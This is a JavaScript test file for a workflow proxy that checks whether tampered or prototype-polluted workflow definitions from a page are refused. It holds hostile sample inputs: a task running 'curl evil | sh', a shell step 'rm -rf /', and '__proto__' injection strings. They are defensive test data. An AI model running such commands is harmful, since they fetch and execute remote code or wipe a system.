// The definition of a page never runs: the proxy's own definition of that name runs.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { Driver, Highway } from "highway-wasm";
import { rejectionOf } from "../support/errors.mjs";
import { allowing, checkRefusal, definitionOf, engineFor, greeting, proxyFor } from "../support/proxy.mjs";

const evil = {
  task_id: "send",
  operator_type: "task",
  function: "tools.shell.run",
  args: ["curl evil | sh"],
};
const submit = { allow: allowing(["submit"]) };
const named = { workflow_definition: { name: "greeting" } };

/** The body that the server gets for a page's definition. */
async function sentFor(definition, options = submit) {
  const { ask, server } = proxyFor(options);
  const answer = await ask("POST workflows", {
    body: { workflow_definition: definition, inputs: { to: "Ada" } },
  });
  return { answer, sent: server.seen[0]?.json.workflow_definition, body: server.seen[0]?.json };
}

/** Checks that a page's definition is accepted, and the proxy's own is sent. */
async function checkTaken(definition, own = greeting, options = submit) {
  const { answer, sent, body } = await sentFor(definition, options);
  assert.equal(answer.status, 200, answer.text);
  assert.deepEqual(sent, { ...own, variables: { to: "Ada" } });
  assert.deepEqual(Object.keys(body).sort(), ["inputs", "workflow_definition"]);
}

async function checkDiffers(definition, field, options = submit) {
  const { answer, sent } = await sentFor(definition, options);
  checkRefusal(answer, 409, "WORKFLOW_DIFFERS");
  assert.match(answer.message, new RegExp(`differs from the server's in \`${field}\``));
  assert.equal(sent, undefined);
}

/** The same value with the keys of all objects in the opposite order. */
const reversed = (value) => {
  if (Array.isArray(value)) return value.map(reversed);
  if (typeof value !== "object" || value === null) return value;
  const entries = Object.entries(value).reverse();
  return Object.fromEntries(entries.map(([key, item]) => [key, reversed(item)]));
};
const changed = (change) => {
  const copy = structuredClone(greeting);
  change(copy, copy.tasks.send);
  return copy;
};

describe("a definition of a page", { concurrency: true }, () => {
  test("may equal the proxy's own, with its keys in any order", async () => {
    await checkTaken(greeting);
    await checkTaken(reversed(greeting));
  });

  test("may be only a name: without tasks, or with an empty object of tasks", async () => {
    for (const tasks of [undefined, null, {}, [], "", 0]) await checkTaken({ name: "greeting", tasks });
    await checkTaken({
      name: "greeting",
      tasks: {},
      version: "9",
      start_task: "x",
      schedule: "* * * * *",
      more: [1],
    });
  });

  for (const [what, field, change] of [
    ["another tool", "tasks", (_, send) => (send.function = "tools.shell.run")],
    ["another argument", "tasks", (_, send) => (send.kwargs.to = "{{inputs.cc}}")],
    ["a further argument", "tasks", (_, send) => (send.kwargs.bcc = "me")],
    ["one argument less", "tasks", (_, send) => delete send.kwargs.to],
    ["a further task", "tasks", ({ tasks }) => (tasks.evil = evil)],
    ["a task of another name", "tasks", ({ tasks }) => ([tasks.other, tasks.send] = [tasks.send, undefined])],
    ["a list in the place of an object", "tasks", (_, send) => (send.kwargs = [])],
    ["an object in the place of a list", "tasks", (_, send) => (send.dependencies = {})],
    ["a longer list", "tasks", (_, send) => (send.dependencies = [null])],
    ["null in the place of nothing", "description", (copy) => (copy.description = null)],
    ["another version", "version", (copy) => (copy.version = "1.0.1")],
    ["a number in the place of text", "version", (copy) => (copy.version = 1)],
    ["a schedule", "schedule", (copy) => (copy.schedule = "* * * * *")],
    ["no start", "start_task", (copy) => delete copy.start_task],
    ["tasks as a key of tasks", "tasks", ({ tasks }) => (tasks.toString = {})],
  ]) {
    test(`with ${what} is refused`, () => checkDiffers(changed(change), field));
  }

  for (const [what, text] of [
    ["`__proto__` with tasks", '"name":"greeting","__proto__":{"tasks":{"x":{}}}'],
    ["`constructor`", '"name":"greeting","constructor":{"prototype":{"tasks":{}}}'],
  ]) {
    test(`with ${what} in it does not change what runs`, async () => {
      const { ask, server } = proxyFor(submit);
      const { status } = await ask("POST workflows", {
        body: `{"workflow_definition":{${text}},"inputs":{}}`,
      });
      assert.equal(status, 200);
      assert.deepEqual(server.seen[0].json.workflow_definition, { ...greeting, variables: {} });
      assert.equal({}.tasks, undefined);
    });

    test(`with tasks, and with ${what} in it, is refused`, async () => {
      const { ask, server } = proxyFor(submit);
      const whole = JSON.stringify(greeting).replace('"name":"greeting"', text);
      checkRefusal(
        await ask("POST workflows", { body: `{"workflow_definition":${whole}}` }),
        409,
        "WORKFLOW_DIFFERS",
      );
      assert.equal(server.seen.length, 0);
    });
  }

  test("with `__proto__` inside a task is refused", async () => {
    const { ask } = proxyFor(submit);
    const whole = JSON.stringify(greeting).replace('"kwargs":{', '"kwargs":{"__proto__":{"bcc":"me"},');
    checkRefusal(
      await ask("POST workflows", { body: `{"workflow_definition":${whole}}` }),
      409,
      "WORKFLOW_DIFFERS",
    );
  });

  test("may have other variables and another time limit, which belong to the run", async () => {
    const { answer, sent } = await sentFor({ ...greeting, variables: { to: "Eve" }, timeout_seconds: 5 });
    assert.equal(answer.status, 200);
    assert.deepEqual(sent, { ...greeting, variables: { to: "Ada" }, timeout_seconds: 5 });
  });
});

describe("the time limit of a run", { concurrency: true }, () => {
  const limited = {
    allow: { greeting: { verbs: ["submit"], workflow: { ...greeting, timeout_seconds: 60 } } },
  };
  for (const [wanted, sent] of [
    [undefined, 60],
    [30, 30],
    [0.5, 0.5],
    [60, 60],
    [61, 60],
    [1e300, 60],
    ["5", 60],
    [null, 60],
    [[5], 60],
    [true, 60],
    [0, 60],
    [-1, 60],
  ]) {
    test(`of 60 s becomes ${sent} if a page wants ${JSON.stringify(wanted)}`, async () => {
      for (const definition of [
        { ...greeting, timeout_seconds: wanted },
        { name: "greeting", timeout_seconds: wanted },
      ])
        assert.equal((await sentFor(definition, limited)).sent.timeout_seconds, sent);
    });
  }
});

describe("names", { concurrency: true }, () => {
  for (const name of [
    "constructor",
    "__proto__",
    "toString",
    "hasOwnProperty",
    "undefined",
    "",
    "Greeting",
    "greeting ",
  ]) {
    test(`\`${name}\` is not allowed if only others are`, async () => {
      const { ask, server } = proxyFor(submit);
      const body = `{"workflow_definition":{"name":${JSON.stringify(name)}}}`;
      checkRefusal(await ask("POST workflows", { body }), 403, "WORKFLOW_NOT_ALLOWED");
      assert.equal(server.seen.length, 0);
    });
  }

  test("a name without a text form is refused like any other, and does not make the proxy fail", async () => {
    for (const name of ['{"toString":1,"valueOf":1}', "null", "[]", "{}", "5"]) {
      const { ask, server } = proxyFor(submit);
      const answer = await ask("POST workflows", { body: `{"workflow_definition":{"name":${name}}}` });
      assert.ok(answer.status === 400 || answer.status === 403, `${name}: ${answer.text}`);
      assert.equal(server.seen.length, 0);
    }
  });

  for (const name of ["constructor", "__proto__", "toString"]) {
    test(`\`${name}\` may be allowed like any other`, async () => {
      const own = definitionOf(name);
      const allow = Object.fromEntries([[name, { verbs: ["submit", "status"], workflow: own }]]);
      await checkTaken(own, own, { allow });
      await checkTaken({ name }, own, { allow });
      const { ask } = proxyFor({ allow }, () => ({ workflow_name: "greeting" }));
      checkRefusal(await ask("GET workflows/r"), 404, "NOT_FOUND");
    });
  }

  test("each name runs its own definition", async () => {
    const other = definitionOf("other", { to: "nobody" });
    const allow = { ...allowing(["submit"]), other: { verbs: ["submit"], workflow: other } };
    await checkTaken({ name: "other" }, other, { allow });
    await checkTaken({ name: "greeting" }, greeting, { allow });
    await checkDiffers({ ...greeting, name: "other" }, "tasks", { allow });
  });
});

describe("`any`", { concurrency: true }, () => {
  const allow = { any: { verbs: ["submit"], workflow: "any" } };
  test("runs what a page sends under the name, with the inputs as its variables", async () => {
    const own = {
      ...definitionOf("any"),
      tasks: { send: evil },
      timeout_seconds: 5,
      variables: { a: 1, to: "Eve" },
    };
    const { answer, sent, body } = await sentFor(own, { allow });
    assert.equal(answer.status, 200);
    assert.deepEqual(sent, { ...own, variables: { a: 1, to: "Ada" } });
    assert.deepEqual(body.inputs, { to: "Ada" });
  });

  test("does not run another name", async () => {
    checkRefusal((await sentFor(definitionOf("other"), { allow })).answer, 403, "WORKFLOW_NOT_ALLOWED");
  });

  for (const name of [["any"], [["any"]]]) {
    test(`requires text as the name: ${JSON.stringify(name)}`, async () => {
      const { answer, sent } = await sentFor({ ...definitionOf("any"), name }, { allow });
      assert.ok(answer.status >= 400, answer.text);
      assert.equal(sent, undefined);
    });
  }
});

describe("a body that does not submit a name", { concurrency: true }, () => {
  for (const [what, body] of [
    ["source of the DSL", { python_dsl: "def get_workflow(): ..." }],
    ["source beside a name", { ...named, python_dsl: "x" }],
    ["an empty source beside a name", { ...named, python_dsl: "" }],
    ["null as source beside a name", { ...named, python_dsl: null }],
    ["a definition to be kept", { workflow_definition: greeting, execute: false }],
    ["nothing", undefined],
    ["an empty object", {}],
    ["a list as definition", { workflow_definition: [greeting] }],
    ["text as definition", { workflow_definition: JSON.stringify(greeting) }],
    ["null as definition", { workflow_definition: null }],
    ["another word for it", { workflow_name: "greeting" }],
    ["an id of a definition", { definition_id: "d-1", name: "greeting" }],
  ]) {
    test(`${what} is refused`, async () => {
      const { ask, server } = proxyFor(submit);
      checkRefusal(await ask("POST workflows", { body }), 403, "WORKFLOW_NOT_ALLOWED");
      assert.equal(server.seen.length, 0);
    });
  }

  test("no other field of a body reaches the server", async () => {
    const { ask, server } = proxyFor(submit);
    const more = {
      definition_id: "d-1",
      tenant_id: "t",
      execute: true,
      schedule: "* * * * *",
      priority: 9,
      name: "x",
    };
    assert.equal(
      (await ask("POST workflows?execute=false&name=x", { body: { ...named, ...more } })).status,
      200,
    );
    assert.deepEqual(server.seen[0].json, {
      workflow_definition: { ...greeting, variables: {} },
      inputs: {},
    });
    assert.equal(server.lines[0], "POST /api/v1/workflows");
  });

  test("`execute` other than `false` does not register a definition without running it", async () => {
    for (const execute of [0, "", null, "false"]) {
      const { ask, server } = proxyFor(submit);
      await ask("POST workflows", { body: { ...named, execute } });
      assert.ok(server.seen.every(({ json }) => !("execute" in json)));
    }
  });
});

describe("against the embedded engine", { concurrency: true }, () => {
  /** A proxy in front of an engine, and a page's client. */
  function start(t, allow) {
    const engine = engineFor(t);
    const { proxy } = proxyFor({ fetch: engine.fetch, allow });
    return { engine, options: { endpoint: "https://app.example/highway", auth: false, fetch: proxy } };
  }
  const define = (driver) => driver.tool("send", "mail.send", { to: "{{inputs.to}}" });

  test("a page's driver runs the same workflow, or fails at once if it differs", async (t) => {
    const server = new Driver({ name: "mail", auth: false });
    define(server);
    const { options } = start(t, {
      mail: { verbs: ["submit", "status", "steps"], workflow: server.build() },
    });
    const page = new Driver({ ...options, name: "mail" });
    define(page);
    const result = await page.run({ inputs: { to: "Ada" }, timeout: 20 });
    assert.deepEqual([result.state, result.tasks.send.result], ["completed", { to: "Ada" }]);
    page.shell("more", "rm -rf /");
    const error = await rejectionOf(page.run());
    assert.deepEqual([error.status, error.details.serverCode], [409, "WORKFLOW_DIFFERS"]);
  });

  test("a page's client runs a workflow by its name, with variables that the server sets", async (t) => {
    const workflow = definitionOf(
      "greeting",
      { to: "{{inputs.to}}", from: "{{inputs.from}}" },
      { variables: { from: "us" } },
    );
    const { options } = start(t, { greeting: { verbs: ["submit", "status", "steps"], workflow } });
    const highway = new Highway(options);
    const handle = await highway.workflows.submit({ workflow: { name: "greeting" }, inputs: { to: "Ada" } });
    assert.deepEqual((await handle.result()).tasks.send.result, { to: "Ada", from: "us" });
  });

  test("variables in a page's definition belong to the run, as without a proxy", async (t) => {
    const { engine, options } = start(t, allowing());
    const workflow = { ...greeting, variables: { to: "Ada" } };
    for (const client of [new Highway({ engine }), new Highway(options)]) {
      const handle = await client.workflows.submit({ workflow });
      const { state, tasks } = await handle.result();
      assert.deepEqual([state, tasks.send.result], ["completed", { to: "Ada" }]);
    }
  });

  test("the same id with the same content is the same run, with other content a conflict", async (t) => {
    const { options } = start(t, allowing());
    const highway = new Highway(options);
    const send = (to) =>
      highway.workflows.submit({ workflow: greeting, inputs: { to }, idempotencyKey: "order-17" });
    const [one, two] = [await send("Ada"), await send("Ada")];
    assert.equal(one.runId, two.runId);
    const error = await rejectionOf(send("Eve"));
    assert.deepEqual(
      [error.code, error.details.existingRunId ?? error.existingRunId],
      ["API_CONFLICT", one.runId],
    );
  });
});
